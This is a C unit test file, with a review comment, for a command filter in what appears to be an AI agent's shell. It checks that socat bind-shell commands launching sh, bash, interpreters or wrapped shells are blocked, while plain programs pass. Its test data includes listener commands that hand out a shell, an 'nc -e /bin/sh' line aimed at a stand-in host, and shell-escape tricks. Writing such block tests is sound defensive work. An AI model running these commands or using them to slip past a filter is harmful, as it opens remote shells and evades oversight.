/* review24 (session 32), round d on h-shell37 c03a20c: 8a08577 makes an
 * input that names socat's EXEC: program fire only for a shell or an
 * interpreter (EXEC:'/usr/bin/cat', 'head -c 100', 'tee FILE' pass again:
 * they were blocked at d53b64e). Fresh programs in the input:
 *
 * 1. REGRESSION from d53b64e (blocked there, allowed now): a shell behind
 *    a wrapper -- 'sudo sh', 'timeout 5 sh', 'nice bash' ('env sh' and
 *    '/usr/bin/env sh' still fire) -- and programs that hand the
 *    connection a shell or run a command: 'nc -e /bin/sh h.example 9',
 *    'ncat -e /bin/sh ...', 'script -qc id /dev/null', 'find / -maxdepth 0
 *    -exec id ;', 'xargs id', 'vim -c :!id'.
 * 2. Interpreters not in the list (allowed on d53b64e and main too):
 *    'rbash', 'tclsh', 'lua', 'php', 'ruby', 'ed' (its !cmd), 'awk
 *    BEGIN{system(...)}'.
 * Twins: 'cat', '/usr/bin/cat', 'date', 'head -c 100', '/usr/bin/tee
 * /srv/log/x.log' stay allowed (second test).
 */
#include "agent_shell_test.h"

static void a_shell_behind_a_wrapper_or_a_command_runner_in_exec_blocks(void **state)
{
	static const char *const lines[][3] = {
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "sudo sh", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "timeout 5 sh", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "nice bash", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "nc -e /bin/sh h.example 9", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "script -qc id /dev/null", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "xargs id", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "vim -c :!id", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "rbash", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "tclsh", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "ruby", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "php", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "lua", "'"},
	};

	(void)state;
	all_block(lines, sizeof lines / sizeof lines[0]);
}

static void a_plain_program_in_exec_is_allowed(void **state)
{
	static const char *const lines[][3] = {
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "cat", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "/usr/bin/cat", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "date", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "head -c 100", "'"},
	    {"socat TCP-LISTEN:9000,reuseaddr,fork EXEC:'", "/usr/bin/tee /srv/log/x.log", "'"},
	};

	(void)state;
	all_pass(lines, sizeof lines / sizeof lines[0]);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_shell_behind_a_wrapper_or_a_command_runner_in_exec_blocks),
	    cmocka_unit_test(a_plain_program_in_exec_is_allowed),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
